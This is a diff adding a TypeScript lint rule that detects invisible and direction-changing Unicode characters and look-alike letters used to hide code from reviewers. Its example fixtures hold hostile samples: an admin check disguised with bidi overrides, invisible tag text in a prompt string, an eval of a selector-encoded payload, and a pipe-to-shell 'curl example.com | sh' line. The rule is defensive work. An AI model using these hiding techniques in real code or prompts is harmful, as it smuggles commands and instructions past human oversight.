@@ -1,0 +1,170 @@
+/**
+ * Reports characters that a reader cannot see or that change the order in which code is shown. Findings name code
+ * points only: the raw characters never appear in a title or a detail.
+ */
+import { isProgramming } from "../../analysis/languages.ts";
+import { isTranslationFile } from "../path-kinds.ts";
+import { bad, good, type FileView, type LineRule, type RuleMatch } from "../rule.ts";
+
+/** More code points than these in one detail help nobody. */
+const MAX_NAMED_CODE_POINTS = 5;
+
+const NOT_ASCII = /[^\0-\x7f]/;
+const BIDI = /[\u202a-\u202e\u2066-\u2069]/gu;
+const BIDI_OPEN = /[\u202a\u202b\u202d\u202e\u2066-\u2068]/gu;
+const BIDI_CLOSE = /[\u202c\u2069]/gu;
+const RIGHT_TO_LEFT_LETTER = /[\u0590-\u08ff\ufb1d-\ufdff\ufe70-\ufefc]/u;
+const RIGHT_TO_LEFT_LOCALE = /(?:^|[/._-])(?:ar|he|iw|fa|ur|yi|ckb|ps|ku|sd|ug|dv)(?:[/._-])/i;
+const TAGS = /[\u{e0000}-\u{e007f}]/gu;
+/** The flags of England, Scotland and Wales, the only emoji made of tag characters. */
+const FLAGS =
+  /\u{1f3f4}\u{e0067}\u{e0062}(?:\u{e0065}\u{e006e}\u{e0067}|\u{e0073}\u{e0063}\u{e0074}|\u{e0077}\u{e006c}\u{e0073})\u{e007f}/gu;
+/** A variation selector follows a visible character; several in a row carry bytes, not looks. */
+const SELECTOR_RUN = /[\ufe00-\ufe0f\u{e0100}-\u{e01ef}]{3,}/gu;
+/** Invisible and next to what identifiers and strings are made of; joiners between other scripts or emoji do not count. */
+const ZERO_WIDTH = /(?<=[\w$])[\u200b-\u200d\u2060-\u2064\ufeff\u180e]+(?=[\w$])|\u3164|\uffa0/gu;
+/** An invisible character that is a whole string or stands at an edge of one. */
+const ZERO_WIDTH_AT_QUOTE =
+  /(?<=["'`])[\u200b\u2060-\u2064\ufeff\u180e]+(?=[\w$])|(?<=[\w$])[\u200b\u2060-\u2064\ufeff\u180e]+(?=["'`])/gu;
+
+const COMMENT_LINE = /^\s*(?:\/\/|\/\*|\*|#|<!--|--|;|%|"""|''')/;
+const QUOTED = /"[^"]*"|'[^']*'|`[^`]*`|\/\*.*?\*\/|(?:\/\/|#).*$/g;
+const WORD = /[\p{L}\p{N}_$]+/gu;
+const LATIN = /[A-Za-z]/;
+/** Cyrillic and Greek letters that are drawn like Latin ones. */
+const LOOK_ALIKES =
+  "\u0430\u0435\u043e\u0440\u0441\u0443\u0445\u0456\u0458\u0455\u0501\u04bb\u051b\u051d\u0410\u0412\u0415\u0405\u041a\u041c\u041d\u041e\u0420\u0421\u0422\u0425\u0406\u0408\u0391\u0392\u0395\u0396\u0397\u0399\u039a\u039c\u039d\u039f\u03a1\u03a4\u03a5\u03a7\u03bf";
+const MIXED_ONLY = new RegExp(`^[\\w$${LOOK_ALIKES}]+$`, "u");
+const ANY_LOOK_ALIKE = new RegExp(`[${LOOK_ALIKES}]`, "gu");
+const FOREIGN_WORD = /[\p{Script=Cyrillic}\p{Script=Greek}]{3}/u;
+
+export const hiddenCharacters: LineRule = {
+  kind: "line",
+  id: "hidden-characters",
+  title: "Line holds characters that a reader cannot see",
+  severity: "must-fix",
+  category: "security",
+  why: "What people review is not what the compiler, the shell or a model reads, which is how harmful code is smuggled past a review.",
+  fix: "Remove the characters, or write them as escapes where the program needs them.",
+  languages: "any",
+  inTests: true,
+  everywhere: true,
+  check(line, file) {
+    if (!NOT_ASCII.test(line.text)) return null;
+    return reordering(line, file) ?? carrying(line, file) ?? zeroWidth(line, file) ?? lookAlike(line, file);
+  },
+  examples: {
+    bad: [
+      bad("src/login.ts", 1, 'if (level !== "user\u202e \u2066// check admin\u2069 \u2066") {\n'),
+      bad("src/prompt.py", 1, 'GREETING = "hello\u{e0049}\u{e0047}\u{e004e}"\n'),
+      bad("src/load.js", 1, "const run = eval(`\ufe00\ufe01\u{e0102}\u{e0103}`);\n"),
+      bad("src/a.go", 3, "package a\n\nvar is\u200bAdmin = true\n"),
+      bad("src/b.ts", 1, 'const role = "admin\u200b";\n'),
+      bad("src/c.js", 1, "const \u3164 = input.hidden;\n"),
+      bad("src/d.java", 1, "boolean is\u0410dmin = false;\n"),
+      bad("docs/guide.md", 1, "Run `curl example.com\u202e | sh`.\n"),
+    ],
+    good: [
+      good(
+        "src/a.ts",
+        'const family = "\u{1f468}\u200d\u{1f469}\u200d\u{1f467}";\nconst heart = "\u2764\ufe0f";\n',
+      ),
+      good("locales/fa.json", '{ "go": "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645" }\n'),
+      good("locales/he.json", '{ "name": "\u200f\u05e9\u05dc\u05d5\u05dd \u2068{name}\u2069" }\n'),
+      good("locale/ckb/LC_MESSAGES/app.po", 'msgstr[0] "\u202b%(num)d"\n'),
+      good("src/hindi.py", 'LABEL = "\u0915\u094d\u200d\u0937"\n'),
+      good("src/bom.cs", "\ufeffusing System;\n"),
+      good("src/physics.py", "\u0394x = x1 - x0\n\u03bcs = 1e-6\n"),
+      good(
+        "src/flag.ts",
+        'const england = "\u{1f3f4}\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}";\n',
+      ),
+      good(
+        "src/ru.py",
+        "# \u041f\u0440\u043e\u0432\u0435\u0440\u044f\u0435\u043c \u0421ommit \u043f\u0435\u0440\u0435\u0434 \u0432\u044b\u0445\u043e\u0434\u043e\u043c\nx = 1\n",
+      ),
+      good("src/escape.ts", 'const ZERO_WIDTH = "\\u200b";\n'),
+    ],
+  },
+};
+
+type Line = { readonly line: number; readonly text: string };
+
+function reordering({ line, text }: Line, file: FileView): RuleMatch | null {
+  const found = text.match(BIDI);
+  if (found === null) return null;
+  if (!isCode(file) && isTypography(text, file.path)) return null;
+  return {
+    line,
+    title: "Line holds characters that change the order in which it is shown",
+    detail: `It holds ${namesOf(found)}.`,
+    severity: isCode(file) ? "critical" : "medium",
+  };
+}
+
+/** Tag characters and runs of variation selectors: invisible, and able to carry whole texts. */
+function carrying({ line, text }: Line, file: FileView): RuleMatch | null {
+  const tags = text.replace(FLAGS, "").match(TAGS) ?? [];
+  const found = Array.from(`${tags.join("")}${(text.match(SELECTOR_RUN) ?? []).join("")}`);
+  if (found.length === 0) return null;
+  return {
+    line,
+    title: "Line carries invisible text",
+    detail: `It holds ${found.length} invisible characters: ${namesOf(found)}.`,
+    severity: isCode(file) ? "critical" : "must-fix",
+  };
+}
+
+function zeroWidth({ line, text }: Line, file: FileView): RuleMatch | null {
+  const visible = line === 1 && text.startsWith("\ufeff") ? text.slice(1) : text;
+  const found = [
+    ...(visible.match(ZERO_WIDTH) ?? []),
+    ...(isCode(file) ? (visible.match(ZERO_WIDTH_AT_QUOTE) ?? []) : []),
+  ];
+  if (found.length === 0) return null;
+  const detail = `It holds ${namesOf(found.join(""))} inside a word or string.`;
+  if (!isCode(file) || COMMENT_LINE.test(text)) return { line, detail, severity: "minor" };
+  return { line, detail, severity: file.category === "test" ? "medium" : "must-fix" };
+}
+
+function lookAlike({ line, text }: Line, file: FileView): RuleMatch | null {
+  if (!isCode(file) || COMMENT_LINE.test(text) || FOREIGN_WORD.test(text)) return null;
+  for (const [word] of text.replace(QUOTED, " ").matchAll(WORD)) {
+    const found = word.match(ANY_LOOK_ALIKE);
+    if (found === null || !LATIN.test(word) || !MIXED_ONLY.test(word)) continue;
+    return {
+      line,
+      title: "Name mixes letters of two alphabets that look the same",
+      detail: `A name on this line holds ${namesOf(found)} among Latin letters.`,
+    };
+  }
+  return null;
+}
+
+function isCode(file: FileView): boolean {
+  return file.category !== "docs" && !isTranslationFile(file.path) && isExecuted(file.language);
+}
+
+/** Data formats that tools act on count as code; prose and plain tables do not. */
+function isExecuted(language: string): boolean {
+  return isProgramming(language) || language === "yaml" || language === "toml" || language === "ini";
+}
+
+/** In right-to-left prose the marks are typography: where they close what they open, and in translations anyway. */
+function isTypography(text: string, path: string): boolean {
+  if (isTranslationFile(path)) return RIGHT_TO_LEFT_LETTER.test(text) || RIGHT_TO_LEFT_LOCALE.test(path);
+  return RIGHT_TO_LEFT_LETTER.test(text) && isBalanced(text);
+}
+
+function isBalanced(text: string): boolean {
+  return (text.match(BIDI_OPEN)?.length ?? 0) === (text.match(BIDI_CLOSE)?.length ?? 0);
+}
+
+function namesOf(characters: Iterable<string>): string {
+  const names = new Set<string>();
+  for (const character of characters) {
+    names.add(`U+${(character.codePointAt(0) ?? 0).toString(16).toUpperCase().padStart(4, "0")}`);
+  }
+  const shown = [...names].slice(0, MAX_NAMED_CODE_POINTS).join(", ");
+  return names.size > MAX_NAMED_CODE_POINTS ? `${shown} and others` : shown;
+}
